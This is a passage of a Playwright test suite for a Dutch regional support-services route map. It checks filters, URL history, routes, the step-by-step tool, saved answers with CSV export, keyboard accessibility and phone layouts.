    await assertView(page, { cost: [cost] }, `cost=${cost}`);
    await page.uncheck(`#filters input[name=cost][value="${cost}"]`);
    await assertView(page, {}, `cost ${cost} unchecked`);
  });
}

await test("filter: every stage alone (#f-stage)", async () => {
  const page = await gotoMap();
  for (const stage of region.stages) {
    await page.selectOption("#f-stage", stage.id);
    await assertView(page, { stage: [stage.id] }, `stage=${stage.id}`);
  }
  await page.selectOption("#f-stage", "");
  await assertView(page, {}, "all stages");
});

await test("filter: combination lane steuntje+extra-steun, cost standaard, stage zwangerschap", async () => {
  const page = await gotoMap();
  await page.check('#filters input[name=lane][value="steuntje"]');
  await page.check('#filters input[name=lane][value="extra-steun"]');
  await page.check('#filters input[name=cost][value="standaard"]');
  await page.selectOption("#f-stage", "zwangerschap");
  const want = await assertView(page, { lane: ["steuntje", "extra-steun"], cost: ["standaard"], stage: ["zwangerschap"] }, "combination");
  assert.ok(want.length > 0 && want.length < TOTAL, "combination should select some but not all");
  await page.click("#f-clear");
  await page.waitForFunction((t) => document.querySelector("#f-count").textContent.startsWith(t + " van"), TOTAL);
  await assertView(page, {}, "after Filters wissen");
});

for (const q of ["geld", "geld zwanger", "COOPERATIE", "café"]) {
  await test(`search: "${q}"`, async () => {
    const page = await gotoMap();
    await page.fill("#f-q", q);
    const want = await assertView(page, { q }, `q=${q}`);
    if (q !== "café") assert.ok(want.length > 0, `data.json has no match for "${q}"; pick another term`);
  });
}

await test("URL: changes write ?lane=…,…&q=geld (values comma-separated, in the form's order)", async () => {
  const page = await gotoMap();
  const order = await page.evaluate(() => [...document.querySelectorAll("#filters input[name=lane]")].map((i) => i.value));
  const two = ["steuntje", "extra-steun"].sort((x, y) => order.indexOf(x) - order.indexOf(y));
  await page.check('#filters input[name=lane][value="steuntje"]');
  assert.equal(await search(page), "?lane=steuntje");
  await page.check('#filters input[name=lane][value="extra-steun"]');
  assert.equal(await search(page), `?lane=${two.join(",")}`);
  await page.fill("#f-q", "geld");
  assert.equal(await search(page), `?lane=${two.join(",")}&q=geld`);
  await assertView(page, { lane: ["steuntje", "extra-steun"], q: "geld" }, "lane+q");
  await page.fill("#f-q", "geld zorgen");
  assert.equal(await search(page), `?lane=${two.join(",")}&q=geld+zorgen`);
  note(`URL after checking steuntje then extra-steun and typing geld: ?lane=${two.join(",")}&q=geld (lane checkbox order: ${order.join(", ")})`);
});

await test("URL: a link with a query opens the overview with that view applied", async () => {
  const page = await gotoMap("?lane=steuntje,extra-steun&q=geld");
  await assertView(page, { lane: ["steuntje", "extra-steun"], q: "geld" }, "direct load");
  const r = await page.evaluate(() => ({
    overview: document.querySelector("#overzicht").checkVisibility(),
    tool: document.body.classList.contains("mode-tool"),
    current: document.querySelector("[data-mode=overzicht]").getAttribute("aria-current"),
    active: document.querySelector("#f-active").textContent,
  }));
  assert.equal(r.overview, true, "#overzicht shown");
  assert.equal(r.tool, false, "not in tool mode");
  assert.equal(r.current, "true", "[data-mode=overzicht] aria-current");
  assert.equal(r.active, "(3)", "#f-active counts 2 lanes + search");
  const page2 = await gotoMap("?cost=eigen-bijdrage&stage=babyfase&route=zwangere-met-geldzorgen");
  await assertView(page2, { cost: ["eigen-bijdrage"], stage: ["babyfase"], route: ["zwangere-met-geldzorgen"] }, "direct load cost+stage+route");
});

await test("URL: the back button restores the previous filter state", async () => {
  const page = await gotoMap();
  await page.check('#filters input[name=lane][value="steuntje"]');
  await page.check('#filters input[name=cost][value="sociaal-netwerk"]');
  await page.selectOption("#f-stage", "babyfase");
  await assertView(page, { lane: ["steuntje"], cost: ["sociaal-netwerk"], stage: ["babyfase"] }, "three filters");
  await page.goBack();
  await assertView(page, { lane: ["steuntje"], cost: ["sociaal-netwerk"] }, "after back 1");
  await page.goBack();
  await assertView(page, { lane: ["steuntje"] }, "after back 2");
  await page.goForward();
  await assertView(page, { lane: ["steuntje"], cost: ["sociaal-netwerk"] }, "after forward");
  await page.goBack();
  await page.goBack();
  await assertView(page, {}, "after back to the start");
  assert.equal(await search(page), "");
});

area("routes");
for (const route of region.routes) {
  await test(`route: ${route.id}`, async () => {
    const page = await gotoMap();
    await page.selectOption("#f-route", route.id);
    const steps = route.steps.map((s) => s.provision);
    await assertView(page, { route: [route.id] }, `route=${route.id}`);
    const r = await page.evaluate((id) => {
      const bars = [...document.querySelectorAll(".map [data-provision]")];
      const article = document.querySelector(`article[data-route="${id}"]`);
      const svg = article && article.querySelector(".emotion-curve");
      return {
        inRoute: bars.filter((b) => b.classList.contains("in-route")).map((b) => [b.dataset.provision, b.getAttribute("data-route-step")]),
        numbered: bars.filter((b) => b.hasAttribute("data-route-step") && !b.classList.contains("in-route")).length,
        selected: [...document.querySelectorAll("article[data-route].selected")].map((a) => a.dataset.route),
        articleSteps: article ? article.getAttribute("data-steps") : null,
        svg: svg ? {
          role: svg.getAttribute("role"), label: svg.getAttribute("aria-label") || "",
          title: svg.querySelector("title") ? svg.querySelector("title").textContent : "",
          points: svg.querySelectorAll("circle").length, visible: svg.checkVisibility(),
        } : null,
        journeyRows: article && article.querySelector(".journey") ? article.querySelectorAll(".journey tbody tr").length : null,
        caption: article && article.querySelector(".emotion figcaption") ? article.querySelector(".emotion figcaption").textContent : "",
      };
    }, route.id);
    const want = steps.map((id, i) => [id, String(steps.indexOf(id) + 1)]).filter(([id], i) => steps.indexOf(id) === i);
    const order = (list) => [...list].sort((a, b) => Number(a[1]) - Number(b[1]));
    assert.deepEqual(order(r.inRoute), want, "bars .in-route with data-route-step (step order)");
    assert.equal(r.numbered, 0, "data-route-step on a bar without .in-route");
    assert.deepEqual(r.selected, [route.id], "article[data-route].selected");
    assert.equal(r.articleSteps, steps.join(" "), "article data-steps");
    const journey = route.steps.some((s) => s.emotion != null);
    if (journey) {
      assert.ok(r.svg, "route with emotions has no .emotion-curve");
      assert.ok(r.svg.visible, ".emotion-curve not visible");
      assert.equal(r.svg.role, "img", ".emotion-curve role");
      assert.ok(r.svg.label.trim() || r.svg.title.trim(), ".emotion-curve has no text alternative");
      assert.equal(r.svg.points, route.steps.filter((s) => s.emotion != null).length, "one circle per step with an emotion");
      assert.equal(r.journeyRows, route.steps.length, ".journey rows");
    } else {
      assert.equal(r.svg, null, "route without emotions has an .emotion-curve");
    }
    // Another route replaces the highlight; none clears it.
    await page.selectOption("#f-route", "");
    await assertView(page, {}, "route cleared");
    const left = await page.evaluate(() => document.querySelectorAll(".in-route, [data-route-step], article.selected").length);
    assert.equal(left, 0, "highlight left after clearing the route");
  });
}

area("tool");
await test("mode: switch to the tool and back to the overview", async () => {
  const page = await gotoMap();
  const state = () => page.evaluate(() => ({
    search: location.search,
    tool: document.body.classList.contains("mode-tool"),
    overview: document.querySelector("#overzicht").checkVisibility(),
    nav: !!document.querySelector(".tool-nav") && document.querySelector(".tool-nav").checkVisibility(),
    stages: [...document.querySelectorAll(".stages .stage")].filter((s) => s.checkVisibility()).map((s) => s.dataset.stage),
    unhidden: [...document.querySelectorAll(".stages .stage")].filter((s) => !s.hidden).map((s) => s.dataset.stage),
    map: !!document.querySelector(".map") && document.querySelector(".map").checkVisibility(),
    current: [...document.querySelectorAll("[data-mode][aria-current=true]")].map((a) => a.dataset.mode),
    focus: document.activeElement && document.activeElement.id,
  }));
  await page.click("[data-mode=tool]");
  let s = await state();
  assert.equal(s.search, "?mode=tool&step=1");
  assert.equal(s.tool, true, "body.mode-tool");
  assert.equal(s.overview, false, "#overzicht hidden in the tool");
  assert.deepEqual(s.stages, [region.stages[0].id], "only stage 1 shown");
  assert.deepEqual(s.current, ["tool"], "aria-current");
  assert.equal(s.focus, "fasen-titel", "focus moves to the tool heading");
  await page.click("[data-mode=overzicht]");
  s = await state();
  assert.equal(s.search, "");
  assert.equal(s.tool, false);
  assert.equal(s.overview, true, "#overzicht shown");
  assert.equal(s.map, true, ".map shown in the overview");
  // From 641 px the overview keeps the step-by-step view out of the
  // document (issue 20); on a phone its stages are the lookup, all shown.
  assert.deepEqual(s.unhidden, [], "stage sections in the document in the overview at 1366 px");
  assert.deepEqual(s.current, ["overzicht"]);
  assert.equal(s.focus, "overzicht-titel", "focus moves to the overview heading");
  await page.setViewportSize(PHONE.viewport);
  assert.deepEqual((await state()).unhidden, region.stages.map((x) => x.id), "no stage section keeps [hidden] in the overview");
  await page.setViewportSize(DESKTOP.viewport);
  await page.goBack();
  s = await state();
  assert.equal(s.tool, true, "back returns to the tool");
  await page.goBack();
  s = await state();
  assert.equal(s.tool, false, "back again returns to the overview");
});

await test("mode: each filter change leaves the links to the map with one click listener each", async () => {
  // apply() added another listener to every link to #kaart on each change
  // (a search of ten letters, ten more): issue 20.
  const page = await gotoMap();
  for (const q of ["g", "ge", "gel", "geld"]) await page.fill("#f-q", q);
  const cdp = await page.context().newCDPSession(page);
  const links = await page.evaluate(() => document.querySelectorAll('a[href="#kaart"]').length);
  assert.ok(links > 0, "no link to #kaart");
  for (let i = 0; i < links; i++) {
    const { result } = await cdp.send("Runtime.evaluate", { expression: `document.querySelectorAll('a[href="#kaart"]')[${i}]` });
    const { listeners } = await cdp.send("DOMDebugger.getEventListeners", { objectId: result.objectId });
    assert.equal(listeners.filter((l) => l.type === "click").length, 1, `click listeners on link ${i} to #kaart`);
  }
  // And the link still leads from the tool back to the map.
  await page.goto(U(`${REGION}/?mode=tool&step=2`));
  await page.waitForFunction(() => document.documentElement.classList.contains("js"));
  await page.click('.page-links a[href="#kaart"]');
  assert.equal(await page.evaluate(() => document.body.classList.contains("mode-overzicht") && location.hash), "#kaart");
});

await test("tool: step through all 7 stages with next, prev disabled at 1, next at 7", async () => {
  const page = await gotoMap("?mode=tool&step=1");
  assert.equal(region.stages.length, 7);
  const read = () => page.evaluate(() => ({
    status: document.querySelector("#tool-status").textContent.trim(),
    progress: document.querySelector("#tool-progress").value,
    prev: document.querySelector("[data-step=prev]").disabled,
    next: document.querySelector("[data-step=next]").disabled,
    stages: [...document.querySelectorAll(".stages .stage")].filter((s) => s.checkVisibility()).map((s) => s.dataset.stage),
    cards: [...new Set([...document.querySelectorAll(".stages [data-item]")].filter((c) => c.checkVisibility()).map((c) => c.dataset.item))].sort(),
    search: location.search,
  }));
  for (let n = 1; n <= 7; n++) {
    const stage = region.stages[n - 1];
    const s = await read();
    assert.equal(s.status, `Stap ${n} van 7 · ${stage.label}`, `#tool-status at step ${n}`);
    assert.equal(s.progress, n, `#tool-progress at step ${n}`);
    assert.deepEqual(s.stages, [stage.id], `only stage ${stage.id} visible at step ${n}`);
    const want = region.visible({ stage: [stage.id] });
    assert.deepEqual(s.cards, want, `cards at step ${n}: ${diff(s.cards, want)}`);
    assert.equal(s.search, `?mode=tool&step=${n}`);
    assert.equal(s.prev, n === 1, `prev disabled at step ${n}`);
    assert.equal(s.next, n === 7, `next disabled at step ${n}`);
    if (n < 7) await page.click("[data-step=next]");
  }
  await page.click("[data-step=prev]");
  assert.equal((await read()).status, `Stap 6 van 7 · ${region.stages[5].label}`, "prev from 7");
  await page.goBack();
  assert.equal((await read()).status, `Stap 7 van 7 · ${region.stages[6].label}`, "back button after prev");
  const direct = await gotoMap("?mode=tool&step=4");
  const d = await direct.evaluate(() => document.querySelector("#tool-status").textContent.trim());
  assert.equal(d, `Stap 4 van 7 · ${region.stages[3].label}`, "direct link ?mode=tool&step=4");
});

// Words of the card titles in the tool that break across lines
// ("CenteringZwangerscha|p" at 1366 px, where a card was narrower than the
// word). A break after a hyphen ("20-|wekenecho") is a break between words.
async function toolTitleProblems(page) {
  return page.evaluate(() => {
    const out = [];
    for (const h of document.querySelectorAll(".stages .stage:not([hidden]) .card h5")) {
      if (!h.checkVisibility()) continue;
      const node = (h.querySelector("a") || h).firstChild;
      for (const m of node.textContent.matchAll(/[^\s-]+-*/g)) {
        const range = document.createRange();
        range.setStart(node, m.index);
        range.setEnd(node, m.index + m[0].length);
        const lines = new Set([...range.getClientRects()].map((r) => Math.round(r.top)));
        if (lines.size > 1) out.push(`${h.closest(".card").dataset.item}: "${m[0]}" broken in a title ${h.clientWidth} px wide`);
      }
    }
    return out;
  });
}

for (const [width, height] of [[1024, 768], [1366, 768], [1920, 1080]]) {
  await test(`tool at ${width}×${height}: no card title breaks inside a word; the step's name is on screen once`, async () => {
    const page = await gotoMap("?mode=tool&step=1", { viewport: { width, height } });
    for (let n = 1; n <= 7; n++) {
      if (n > 1) await page.click("[data-step=next]");
      assert.deepEqual(await toolTitleProblems(page), [], `step ${n}`);
      const label = `Stap ${n} van 7 · ${region.stages[n - 1].label}`;
      const shown = await page.evaluate((label) => [...document.querySelectorAll("main *")].filter((el) => {
        const r = el.getBoundingClientRect();
        return el.checkVisibility() && r.width > 1 && r.height > 1 && el.textContent.replace(/\s+/g, " ").trim() === label
          && ![...el.children].some((c) => c.textContent.replace(/\s+/g, " ").trim() === label);
      }).map((el) => el.localName + (el.id ? "#" + el.id : "")), label);
      assert.equal(shown.length, 1, `step ${n}: "${label}" on screen ${shown.length} times (${shown.join(", ")})`);
    }
    // The check finds what it looks for: a card too narrow for its word.
    await page.evaluate(() => { document.querySelector(".stage:not([hidden]) .cards").style.gridTemplateColumns = "repeat(auto-fill, 14rem)"; });
    assert.ok((await toolTitleProblems(page)).length > 0, "a title broken inside a word is not found");
  });
}

const ANSWER_STAGE = "zwangerschap";
const ANSWER_INDEX = 1; // the second question of that stage
const NOTE = "Bespreken in het overleg; \"knooppunt\" vraagt na";
let answered = null; // the page with a kept answer, reused by the CSV test

const ANSWER_STEP = () => region.stages.findIndex((s) => s.id === ANSWER_STAGE) + 1;
area("answers");
await test("questions: an answer (deels + note) is kept after a reload, per region", async () => {
  const page = await gotoMap(`?mode=tool&step=${ANSWER_STEP()}`);
  const item = page.locator(`.question[data-stage="${ANSWER_STAGE}"]`).nth(ANSWER_INDEX);
  await item.locator('input[type=radio][value="deels"]').check();
  await item.locator("textarea").fill(NOTE);
  await page.reload();
  await page.waitForFunction(() => document.documentElement.classList.contains("js"));
  const again = page.locator(`.question[data-stage="${ANSWER_STAGE}"]`).nth(ANSWER_INDEX);
  assert.equal(await again.locator('input[type=radio][value="deels"]').isChecked(), true, "deels still checked");
  assert.equal(await again.locator("textarea").inputValue(), NOTE, "note kept");
  const others = await page.evaluate(() => [...document.querySelectorAll(".question input[type=radio]:checked")].length);
  assert.equal(others, 1, "exactly one answered radio");
  const stored = await page.evaluate((r) => localStorage.getItem(`routekaart:${r}:antwoorden`), REGION);
  assert.ok(stored && stored.includes("deels"), `localStorage routekaart:${REGION}:antwoorden`);
  // Same browser, other region: nothing answered there.
  await page.goto(U(`zeeuws-vlaanderen/?mode=tool&step=${ANSWER_STEP()}`));
  const elsewhere = await page.evaluate(() => [...document.querySelectorAll(".question input[type=radio]:checked")].length);
  assert.equal(elsewhere, 0, "answer leaked into another region");
  await page.goto(U(`${REGION}/?mode=tool&step=${ANSWER_STEP()}`));
  answered = page;
  openContexts.length = 0; // keep this context open for the next test
});

await test("questions: export CSV (header and the answered row)", async () => {
  const page = answered || (await gotoMap(`?mode=tool&step=${ANSWER_STEP()}`));
  if (answered) openContexts.push(page.context());
  const [download] = await Promise.all([page.waitForEvent("download"), page.click("#q-export")]);
  const file = join(OUT_DIR, download.suggestedFilename() || "answers.csv");
  await download.saveAs(file);
  const text = readFileSync(file, "utf8");
  assert.equal(download.suggestedFilename(), `evaluatieve-vragen-${REGION}.csv`);
  assert.ok(text.startsWith("\ufeff"), "starts with a byte order mark");
  const lines = text.replace(/^\ufeff/, "").split("\r\n").filter((l) => l !== "");
  assert.equal(lines[0], "regio;fase;vraag;antwoord;toelichting;datum", "header");
  const allQuestions = region.stages.flatMap((s) => region.questionsOf(s.id));
  assert.equal(lines.length, 1 + allQuestions.length, "one row per question");
  const stageLabel = region.stages.find((s) => s.id === ANSWER_STAGE).label;
  const question = region.questionsOf(ANSWER_STAGE)[ANSWER_INDEX];
  const quoted = '"' + NOTE.replace(/"/g, '""') + '"';
  const row = `${REGION};${stageLabel};${/[";]/.test(question) ? '"' + question.replace(/"/g, '""') + '"' : question};deels;${quoted};`;
  assert.ok(lines.some((l) => l.startsWith(row) && /^\d{4}-\d\d-\d\d \d\d:\d\d$/.test(l.slice(row.length))), `answered row not found; expected ${row}YYYY-MM-DD HH:MM`);
  const answeredRows = lines.slice(1).filter((l) => /;(ja|deels|nee);/.test(l));
  assert.equal(answeredRows.length, 1, "exactly one answered row");
});

area("access");
await test("keyboard: Tab from the top reaches the skip link, mode links, search, a lane checkbox (Space filters) and a provision link (Enter opens it)", async () => {
  const page = await gotoMap();
  await page.keyboard.press("Tab");
  let f = await focused(page);
  assert.equal(f.cls, "skip-link", `first Tab focuses ${f.tag}.${f.cls}, not the skip link`);
  assert.ok(visibleFocus(f), `skip link focus not visible (outline ${f.outline}, box-shadow ${f.boxShadow})`);
  const reached = new Set();
  let laneValue = null;
  let opened = null;
  for (let i = 0; i < 400 && !opened; i++) {
    await page.keyboard.press("Tab");
    f = await focused(page);
    if (f.mode) reached.add("mode:" + f.mode);
    if (f.id === "f-q") reached.add("search");
    if (f.tag === "input" && f.name === "lane" && !laneValue) {
      reached.add("lane");
      laneValue = f.value;
      const before = await page.textContent("#f-count");
      await page.keyboard.press("Space");
      const after = await page.textContent("#f-count");
      assert.ok(await page.isChecked(`input[name=lane][value="${laneValue}"]`), "Space did not check the lane box");
      assert.notEqual(after, before, "Space on a lane checkbox did not change #f-count");
      await assertView(page, { lane: [laneValue] }, "keyboard lane filter");
    }
    if (f.bar) {
      assert.ok(laneValue, "reached a provision link before any lane checkbox");
      const p = region.provisions.find((x) => x.id === f.bar);
      assert.equal(p.lane, laneValue, `Tab reached ${f.bar}, which is filtered out`);
      assert.ok(visibleFocus(f), `focus on provision link not visible (outline ${f.outline}, box-shadow ${f.boxShadow})`);
      opened = f;
      await Promise.all([page.waitForURL((u) => u.pathname.endsWith(`/${f.bar}.html`)), page.keyboard.press("Enter")]);
    }
  }
  for (const want of ["mode:tool", "mode:overzicht", "search", "lane"]) assert.ok(reached.has(want), `Tab never reached ${want}`);
  assert.ok(opened, "Tab never reached a provision link on the map");
  assert.equal(await page.evaluate(() => document.body.className), "page-provision", "Enter did not open the detail page");
  assert.equal(await page.evaluate(() => document.querySelector("h1").textContent), region.provisions.find((p) => p.id === opened.bar).title);
});

await test("keyboard: the skip link moves focus into main", async () => {
  const page = await gotoMap();
  await page.keyboard.press("Tab");
  await page.keyboard.press("Enter");
  await page.keyboard.press("Tab");
  const f = await focused(page);
  assert.ok(f.inMain, `after the skip link, Tab focuses ${f.tag}#${f.id}.${f.cls} outside main`);
});

await test("keyboard: focus is visible on links, buttons, checkboxes, the search field and selects", async () => {
  const page = await gotoMap();
  const bad = [];
  for (const sel of [".site-title", "[data-mode=tool]", "#f-q", 'input[name=lane][value="steuntje"]', "#f-stage", "#f-clear", ".map [data-provision] a", "#q-export", ".route-steps a"]) {
    await page.locator(sel).first().focus();
    // Focus from the keyboard: one Shift+Tab and Tab back, so :focus-visible applies.
    await page.keyboard.press("Shift+Tab");
    await page.keyboard.press("Tab");
    const f = await focused(page);
    if (!visibleFocus(f)) bad.push(`${sel} (outline ${f.outline}, box-shadow ${f.boxShadow})`);
  }
  assert.deepEqual(bad, [], "no visible focus indicator: " + bad.join("; "));
});

// The ring is drawn, not only styled. The region page's lower sections are
// drawn lazily (content-visibility), which clips what they paint at their
// edge; a button at that edge must keep its whole ring. Reads the pixels of
// a strip 2-5 px left of the focused element (its outline) in a blank page,
// which has no Content-Security-Policy to keep the screenshot out.
async function ringLeftOf(page, locator) {
  await locator.scrollIntoViewIfNeeded();
  await locator.focus();
  await page.keyboard.press("Shift+Tab");
  await page.keyboard.press("Tab");
  const box = await locator.boundingBox();
  const png = await page.screenshot({ clip: { x: box.x - 5, y: box.y + box.height / 4, width: 3, height: box.height / 2 } });
  const blank = await page.context().newPage();
  try {
    return await blank.evaluate(async (b64) => {
      const bytes = Uint8Array.from(atob(b64), (c) => c.charCodeAt(0));
      const image = await createImageBitmap(new Blob([bytes], { type: "image/png" }));
      const canvas = new OffscreenCanvas(image.width, image.height);
      const g = canvas.getContext("2d");
      g.drawImage(image, 0, 0);
      const px = g.getImageData(0, 0, image.width, image.height).data;
      let dark = 0;
      for (let i = 0; i < px.length; i += 4) if (px[i] + px[i + 1] + px[i + 2] < 3 * 128) dark++;
      return dark / (px.length / 4);
    }, png.toString("base64"));
  } finally {
    await blank.close();
  }
}

await test("keyboard: a focus ring at the edge of a lazily drawn section is drawn whole (tool buttons, gaps table)", async () => {
  const bad = [];
  for (const [query, sel] of [["?mode=tool&step=2", '.tool-nav [data-step="prev"]'], ["", "#hiaten .table-wrap"]]) {
    const page = await gotoMap(query);
    const share = await ringLeftOf(page, page.locator(sel).first());
    // The outline (var(--ink), 3 px) fills the strip; clipped, it is white.
    if (share < 0.6) bad.push(`${sel}: ${(share * 100).toFixed(0)}% of its left outline drawn`);
  }
  assert.deepEqual(bad, [], bad.join("; "));
});

// axe-core on each kind of page.
const AXE_PAGES = [
  ["home", ""],
  ["region map (overview)", `${REGION}/`],
  ["region map (tool)", `${REGION}/?mode=tool&step=2`],
  ["region map (route selected)", `${REGION}/?route=jonge-moeder-kwetsbaar`],
  ["detail page", `${REGION}/knooppunt.html`],
  ["guidance page", "guidance/klantroutes-maken.html"],
  ["region guidance page", `${REGION}/guidance/aanmelden-knooppunt.html`],
  ["comparison page", "vergelijking.html"],
];
for (const [label, path] of AXE_PAGES) {
  await test(`axe (${AXE_TAGS.join(", ")}): ${label}`, async () => {
    const page = path.startsWith(REGION + "/") && !path.endsWith(".html") ? await gotoMap(path.slice(REGION.length + 1)) : await open(path);
    const v = await runAxe(page, AXE_TAGS);
    assert.equal(v.length, 0, `${BASE}${path}: ${axeReport(v)}`);
  });
}

for (const [label, path] of [["region map with the filters open", `${REGION}/`], ["detail page", `${REGION}/knooppunt.html`]]) {
  await test(`axe on the phone (390 px): ${label}`, async () => {
    const page = path.endsWith("/") ? await gotoMap("", { phone: true }) : await open(path, { phone: true });
    if (path.endsWith("/")) await page.click("#f-toggle");
    const v = await runAxe(page, AXE_TAGS);
    assert.equal(v.length, 0, `${BASE}${path}: ${axeReport(v)}`);
  });
}

for (const [label, path] of [["home", ""], ["region map", `${REGION}/`], ["region map (tool)", `${REGION}/?mode=tool&step=4`],
  ["region map (route)", `${REGION}/?route=jonge-moeder-kwetsbaar`], ["detail page", `${REGION}/knooppunt.html`],
  ["guidance page", "guidance/klantroutes-maken.html"], ["comparison page", "vergelijking.html"]]) {
  await test(`phone 390 px: nothing scrolls sideways on the ${label}`, async () => {
    const page = await open(path, { phone: true });
    const o = await overflow(page);
    assert.ok(o.scrollWidth <= o.clientWidth,
      `${BASE}${path}: scrollWidth ${o.scrollWidth} > clientWidth ${o.clientWidth}; sticking out: ${o.offenders.join("; ")}`);
  });
}

await test("phone 390 px: the filters collapse behind #f-toggle; search and the live count stay in view", async () => {
  const page = await gotoMap("", { phone: true });
  const read = () => page.evaluate(() => ({
    toggle: document.querySelector("#f-toggle").checkVisibility(),
    expanded: document.querySelector("#f-toggle").getAttribute("aria-expanded"),
    form: [...document.querySelectorAll("#filters fieldset, #filters .filter-selects")].some((e) => e.checkVisibility()),
    search: document.querySelector("#f-q").checkVisibility(),
    count: document.querySelector("#f-count").checkVisibility(),
    active: document.querySelector("#f-active").textContent,
  }));
  let s = await read();
  assert.equal(s.toggle, true, "#f-toggle visible");
  assert.equal(s.form, false, "#filters shown before #f-toggle is pressed");
  assert.ok(s.search && s.count, "search or the live count hidden while the filters are closed");
  assert.equal(s.expanded, "false");
  await page.click("#f-toggle");
  s = await read();
  assert.equal(s.form, true, "#filters not shown after #f-toggle");
  assert.equal(s.expanded, "true");
  await page.check('#filters input[name=lane][value="steuntje"]');
  await page.click("#f-toggle");
  s = await read();
  assert.equal(s.form, false, "#filters not collapsed again");
  assert.equal(s.expanded, "false");
  assert.equal(s.active, "(1)", "#f-active shows the number of active filters on the closed toggle");
  await assertView(page, { lane: ["steuntje"] }, "phone lane filter");
  const desktop = await gotoMap();
  assert.equal(await desktop.evaluate(() => document.querySelector("#f-toggle").checkVisibility()), false, "#f-toggle shown on the desktop");
});

// ---- state that never lies (issue 10, point 4) --------------------------------

area("tool");
await test("state: the tool names the filters chosen in the overview and clears them in one click", async () => {
  const page = await gotoMap("?lane=steuntje&q=geld");
  await page.click('a[data-mode="tool"]');
  const notice = page.locator("#tool .active-filters");
  assert.ok(await notice.isVisible(), "no notice of active filters in the tool");
  const text = await notice.innerText();
  assert.match(text, /Steuntje in de rug/);
  assert.match(text, /geld/);
  await notice.locator("[data-clear]").click();
  await page.waitForFunction(() => !location.search.includes("lane="));
  assert.equal(await notice.isVisible(), false, "the notice stays after clearing");
  assert.equal(new URL(page.url()).searchParams.get("mode"), "tool", "clearing left the tool");
  const hidden = await page.evaluate(() => [...document.querySelectorAll("#tool [data-item]")].filter((c) => c.hidden).length);
  assert.equal(hidden, 0, "cards still hidden after clearing");
});

await test("state: 'Terug naar de routekaart' returns to the map as it was left (filters kept)", async () => {
  const page = await gotoMap("?lane=steuntje&q=geld");
  const link = page.locator(".map .bar:not([hidden]) a").first();
  await Promise.all([page.waitForNavigation(), link.click()]);
  const back = page.locator(".back a");
  assert.match(await back.getAttribute("href"), /\?lane=steuntje&q=geld$/);
  await Promise.all([page.waitForNavigation(), back.click()]);
  await page.waitForFunction(() => document.documentElement.classList.contains("js"));
  assert.equal(await page.inputValue("#f-q"), "geld");
  assert.ok(await page.isChecked('#filters input[name=lane][value="steuntje"]'));
});

await test("state: typing a search adds one history entry after a stage choice, and Back returns to the stage choice", async () => {
  const page = await gotoMap();
  await page.selectOption("#f-stage", "zwangerschap");
  await page.waitForFunction(() => location.search.includes("stage=zwangerschap"));
  await page.click("#f-q");
  await page.keyboard.type("geld", { delay: 30 });
  await page.waitForFunction(() => location.search.includes("q=geld"));
  await page.goBack();
  await page.waitForFunction(() => !location.search.includes("q="));
  assert.equal(new URL(page.url()).searchParams.get("stage"), "zwangerschap", "Back lost the stage choice");
  assert.equal(await page.inputValue("#f-q"), "");
  await page.goBack();
  await page.waitForFunction(() => !location.search.includes("stage="));
});

// ---- routes (issue 10, point 5) -------------------------------------------------

area("routes");
await test("route on a phone: the emotion curve has a labelled -2…+2 scale and stays legible; the journey is a card per step", async () => {
  const page = await gotoMap("?route=jonge-moeder-kwetsbaar", { phone: true });
  const r = await page.evaluate(() => {
    const article = document.querySelector("#route-strip article");
    const svg = article.querySelector(".emotion-curve");
    const wrap = article.querySelector(".table-wrap");
    const labels = [...article.querySelectorAll("tbody td")].filter((td) => td.textContent.trim())
      .map((td) => [td.dataset.label, td.checkVisibility(), td.getBoundingClientRect().right <= innerWidth + 0.5]);
    return {
      scale: [...svg.querySelectorAll(".scale text")].map((t) => t.textContent),
      width: svg.getBoundingClientRect().width,
      fits: wrap.scrollWidth <= wrap.clientWidth,
      before: getComputedStyle(article.querySelector("tbody td"), "::before").content,
      labels,
    };
  });
  assert.deepEqual(r.scale, ["+2", "+1", "0", "−1", "−2"]);
  assert.ok(r.width >= 500, `the curve is ${Math.round(r.width)} px wide on a phone`);
  assert.ok(r.fits, "the journey scrolls sideways");
  assert.equal(r.before, '"Contactmoment: "');
  for (const name of ["Knelpunt", "Verbetering"]) {
    const cells = r.labels.filter(([label]) => label === name);
    assert.ok(cells.length > 0 && cells.every(([, shown, inside]) => shown && inside), `${name} hidden or off screen on a phone`);
  }
});

// ---- the phone overview as a lookup tool (issue 10, point 3) ------------------

area("phone");
await test("phone 390 px: the overview is a lookup of at most 13,000 px: each provision whole once, later stages only name it", async () => {
  const page = await gotoMap("", { phone: true });
  const r = await page.evaluate(() => {
    const tool = document.querySelector("#tool").getBoundingClientRect();
    const cards = [...document.querySelectorAll("#tool [data-item]")].filter((c) => c.checkVisibility());
    const whole = cards.filter((c) => !c.classList.contains("continues"));
    const once = new Set(whole.map((c) => c.dataset.item));
    // A later mention is the name alone: one line, two for a long name.
    const tall = cards.filter((c) => c.classList.contains("continues") && (c.getBoundingClientRect().height > 64 ||
      [...c.children].some((e) => e.localName !== "h5" && e.checkVisibility())));
    return { height: tool.height, whole: whole.length, distinct: once.size, tall: tall.map((c) => c.dataset.item),
      questions: [...document.querySelectorAll("#tool .questions")].some((q) => q.checkVisibility()) };
  });
  // 49 whole cards of about 160 px, 87 later mentions of about 40 px and
  // the stage and lane headings: some 12,000 px (27,000 before, when every
  // stage repeated every card whole and held the question forms).
  assert.ok(r.height <= 13000, `the lookup is ${Math.round(r.height)} px tall`);
  assert.equal(r.whole, TOTAL, "whole cards");
  assert.equal(r.distinct, TOTAL, "a provision whole in more than one stage");
  assert.deepEqual(r.tall, [], "a later mention is more than the name");
  assert.equal(r.questions, false, "question forms in the lookup");
});

await test("phone 390×844: the page is at most 9,000 px; routes and gaps fold under their heading, open by keyboard and by the section links", async () => {
  const page = await gotoMap("", { phone: true });
  const folded = () => page.evaluate(() => ({
    height: document.documentElement.scrollHeight,
    buttons: [...document.querySelectorAll("#routes > h2 > button, #hiaten > h2 > button")].map((b) => b.getAttribute("aria-expanded")),
    articles: document.querySelectorAll("#routes article").length,
    table: !!document.querySelector("#hiaten table") && document.querySelector("#hiaten table").checkVisibility(),
  }));
  const r = await folded();
  // 20,656 px before issue 20 (the lookup alone 12,800, the routes 12,800).
  assert.ok(r.height <= 9000, `the page is ${r.height} px long`);
  assert.deepEqual(r.buttons, ["false", "false"], "routes and gaps folded behind a button");
  assert.equal(r.articles, 0, "folded routes still in the document");
  assert.equal(r.table, false, "the folded gaps table is shown");
  // By keyboard: Enter on the heading's button opens the routes, Tab goes on
  // into them, Enter again closes them.
  await page.focus("#routes > h2 > button");
  await page.keyboard.press("Enter");
